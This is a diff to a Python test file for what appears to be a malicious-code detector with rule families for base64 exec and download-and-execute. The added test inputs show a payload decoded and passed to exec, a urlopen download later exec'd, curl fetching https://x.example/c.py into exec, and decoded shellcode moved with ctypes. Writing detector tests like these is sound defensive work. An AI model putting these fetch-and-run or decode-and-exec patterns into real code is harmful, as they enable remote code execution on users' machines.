@@ -40,6 +40,14 @@ def lowered(source: str, path: str = "step.py") -> set[tuple[str, int]]:
         ("out = ''\nfor b in [1, 2]:\n    out += chr(b ^ 7)\nexec(out)\n", "exec-base64", 4),
         ("import base64, marshal, types\ntypes.FunctionType(marshal.loads(base64.b64decode('AA==')), {})\n",
          "exec-base64", 2),
+        ("import base64\nclass L:\n    def __init__(self, b):\n        self.p = base64.b64decode(b)\n"
+         "    def run(self):\n        exec(self.p)\n", "exec-base64", 6),
+        ("import urllib.request\nS = None\ndef f():\n    global S\n    S = urllib.request.urlopen('u').read()\n"
+         "def g():\n    exec(S)\n", "download-execute", 7),
+        ("import subprocess\nc = subprocess.check_output(['curl', '-s', 'https://x.example/c.py'])\nexec(c)\n",
+         "download-execute", 3),
+        ("import base64, ctypes\nsc = base64.b64decode('kJA=')\nctypes.windll.kernel32.RtlMoveMemory(1, sc, 2)\n",
+         "exec-base64", 3),
     ],
 )  # fmt: skip
 def test_each_family_is_found_on_its_statement_line(source: str, rule: str, line: int):
